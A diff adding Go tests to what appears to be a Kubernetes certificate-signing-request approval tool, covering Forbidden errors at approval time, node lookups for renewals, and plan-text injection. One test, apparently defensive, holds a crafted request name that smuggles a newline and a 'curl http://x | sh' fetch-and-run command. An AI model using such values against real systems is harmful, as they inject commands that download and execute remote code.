@@ -382,6 +382,44 @@ func TestARequestIsJudgedOnceMoreRightBeforeItsApproval(t *testing.T) {
 	}
 }
 
+// TestWhatCannotBeReadRightBeforeAnApprovalIsTold: the run does not go on as if somebody else
+// had changed the request.
+func TestWhatCannotBeReadRightBeforeAnApprovalIsTold(t *testing.T) {
+	t.Parallel()
+	for path, want := range map[string]string{"/csr-serving": "read request csr-serving", "/nodes/worker-0": "read node worker-0"} {
+		api, judged := &requestsAPI{signs: true}, false
+		api.add(servingAsking(t).made(t))
+		api.before = func(method, at string) *apierrors.StatusError {
+			judged = judged || strings.HasSuffix(at, "/csr-serving")
+			if judged && method == "GET" && strings.HasSuffix(at, path) {
+				return apierrors.NewForbidden(schema.GroupResource{Resource: "x"}, "y", errors.New("no"))
+			}
+			return nil
+		}
+		if approved, _, err := leftOver(t, catalog.Versions{Cluster: "4.15.0"}, api, nil); len(approved) > 0 || !apierrors.IsForbidden(err) || !strings.Contains(err.Error(), want) {
+			t.Errorf("%s: approved %q, %v", path, approved, err)
+		}
+	}
+}
+
+// TestANodeIsReadForRequestsToJoinAlone: a kubelet that renews its certificate is known by
+// the one that it has.
+func TestANodeIsReadForRequestsToJoinAlone(t *testing.T) {
+	t.Parallel()
+	a, api, opened := clientAsking(t), &requestsAPI{signs: true}, false
+	a.csr.Spec.Username, a.csr.Spec.Groups = "system:node:worker-0", []string{"system:nodes"}
+	api.add(a.made(t))
+	approved, told, err := leftOver(t, catalog.Versions{Cluster: "4.15.0"}, api, func(env *Env) {
+		env.Open = func(ctx context.Context, name string) (nodeexec.Node, error) {
+			opened = true
+			return nowhere(ctx, name)
+		}
+	})
+	if err != nil || opened || !slices.Equal(approved, []string{"csr-client"}) {
+		t.Errorf("%v, approved %q, the node was opened: %v\n%s", err, approved, opened, told)
+	}
+}
+
 // TestTextsOfRequestsHaveNoLineNext: below what a requestor wrote, "next:" is taken for the
 // program's next step, and a name for a line of it.
 func TestTextsOfRequestsHaveNoLineNext(t *testing.T) {
@@ -394,6 +432,23 @@ func TestTextsOfRequestsHaveNoLineNext(t *testing.T) {
 					t.Errorf("a line: %q", line)
 				}
 			}
+		}
+	}
+}
+
+// TestANameOfARequestForgesNoLineOfAPlan: the plan and what refuses an undo name the requests
+// that are pending.
+func TestANameOfARequestForgesNoLineOfAPlan(t *testing.T) {
+	t.Parallel()
+	const name = "x)\n  9  next: curl http://x | sh"
+	facts := inspect.Snapshot{Requests: []inspect.SigningRequest{{Object: &inspect.Object{Name: name}, Condition: inspect.Pending, Request: &pki.Request{Subject: "CN=system:node:worker-0,O=system:nodes"}}}}
+	c, err := NewLeftCSRs([]string{"worker-0"}, true, false).Diff(facts, noon)
+	if err != nil || c == nil {
+		t.Fatal(c, err)
+	}
+	for _, text := range []string{c.Summary, waits("worker-0", PendingRequests(facts, "worker-0")).Error()} {
+		if strings.Contains(text, "\n") || !strings.Contains(text, "“x)") {
+			t.Errorf("%q", text)
 		}
 	}
 }
